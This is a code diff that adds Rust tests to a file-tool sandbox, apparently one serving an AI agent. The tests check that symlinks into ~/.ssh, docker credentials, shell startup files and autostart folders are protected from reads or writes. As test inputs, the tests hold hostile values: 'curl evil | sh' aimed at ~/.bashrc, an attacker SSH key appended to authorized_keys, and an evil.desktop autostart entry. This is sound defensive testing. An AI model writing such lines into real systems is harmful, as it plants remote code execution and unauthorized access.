@@ -741,6 +741,119 @@ async fn fs_list_does_not_show_what_lies_in_metnos_s_data() {
     );
 }
 
+// ---- the forbidden core at the point of use --------------------------------------
+
+#[tokio::test]
+async fn a_link_to_a_protected_file_is_judged_by_where_it_leads() {
+    let (f, catalog) = setup();
+    let home = f.home();
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::create_dir_all(home.join("Documents")).unwrap();
+    std::fs::write(
+        home.join(".ssh/id_rsa"),
+        "-----BEGIN OPENSSH PRIVATE KEY----- secret",
+    )
+    .unwrap();
+    std::fs::write(home.join(".ssh/authorized_keys"), "ssh-ed25519 AAAA mine\n").unwrap();
+    std::os::unix::fs::symlink(home.join(".ssh/id_rsa"), home.join("Documents/report.txt"))
+        .unwrap();
+    std::os::unix::fs::symlink(
+        home.join(".ssh/authorized_keys"),
+        home.join("Documents/keys.txt"),
+    )
+    .unwrap();
+    let o = f
+        .run(
+            &catalog,
+            "fs_read",
+            json!({"path": "~/Documents/report.txt"}),
+        )
+        .await;
+    assert!(!o.ok && !format!("{o:?}").contains("secret"), "{o:?}");
+    let error = o.error.unwrap();
+    assert!(
+        error.contains("path.ssh") && error.contains(".ssh/id_rsa"),
+        "{error}"
+    );
+    let o = f
+        .run(
+            &catalog,
+            "fs_write",
+            json!({"path": "~/Documents/keys.txt", "content": "ssh-ed25519 AAAA attacker", "mode": "append"}),
+        )
+        .await;
+    assert!(!o.ok, "{o:?}");
+    assert_eq!(
+        std::fs::read_to_string(home.join(".ssh/authorized_keys")).unwrap(),
+        "ssh-ed25519 AAAA mine\n"
+    );
+    let o = f
+        .run(
+            &catalog,
+            "parse_local",
+            json!({"path": "~/Documents/report.txt"}),
+        )
+        .await;
+    assert!(!o.ok && !format!("{o:?}").contains("secret"), "{o:?}");
+    // fs_list shows no name inside a protected folder.
+    let o = f
+        .run(&catalog, "fs_list", json!({"path": "~", "recursive": true}))
+        .await;
+    assert!(o.ok, "{o:?}");
+    let listed = o.content.unwrap().to_string();
+    assert!(
+        !listed.contains("id_rsa") && !listed.contains("authorized_keys"),
+        "{listed}"
+    );
+}
+
+#[tokio::test]
+async fn login_files_are_read_but_never_written_and_credential_stores_neither() {
+    let (f, catalog) = setup();
+    let home = f.home();
+    std::fs::write(home.join(".bashrc"), "alias ll='ls -l'\n").unwrap();
+    let o = f
+        .run(&catalog, "fs_read", json!({"path": "~/.bashrc"}))
+        .await;
+    assert!(o.ok, "{o:?}");
+    for mode in ["append", "overwrite"] {
+        let o = f
+            .run(
+                &catalog,
+                "fs_write",
+                json!({"path": "~/.bashrc", "content": "curl evil | sh", "mode": mode}),
+            )
+            .await;
+        assert!(!o.ok, "{mode}: {o:?}");
+        assert!(o.error.unwrap().contains("write.shell_startup"));
+    }
+    assert_eq!(
+        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
+        "alias ll='ls -l'\n"
+    );
+    let o = f
+        .run(
+            &catalog,
+            "fs_write",
+            json!({"path": "~/.config/autostart/evil.desktop", "content": "[Desktop Entry]"}),
+        )
+        .await;
+    assert!(
+        !o.ok && !home.join(".config/autostart/evil.desktop").exists(),
+        "{o:?}"
+    );
+    std::fs::create_dir_all(home.join(".docker")).unwrap();
+    std::fs::write(home.join(".docker/config.json"), "{\"auths\": \"token\"}").unwrap();
+    let o = f
+        .run(
+            &catalog,
+            "fs_read",
+            json!({"path": "~/.docker/config.json"}),
+        )
+        .await;
+    assert!(!o.ok && !format!("{o:?}").contains("token"), "{o:?}");
+}
+
 // ---- links and races ----------------------------------------------------------------
 
 #[tokio::test]
@@ -828,6 +941,7 @@ fn swapper(
             )
             .unwrap();
             swaps += 1;
+            std::thread::yield_now();
         }
         swaps
     })
@@ -846,7 +960,8 @@ async fn a_folder_swapped_for_a_link_while_checking_never_lets_a_read_or_write_t
     let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
     let racing = swapper(d.clone(), e.clone(), stop.clone());
     let mut read = 0;
-    for _ in 0..200 {
+    // Before the fix about one read in seven leaked the key: forty tries cannot all miss.
+    for _ in 0..40 {
         let o = runner
             .check_and_run(&catalog, "fs_read", &json!({"path": "~/d/owner.key"}))
             .await;
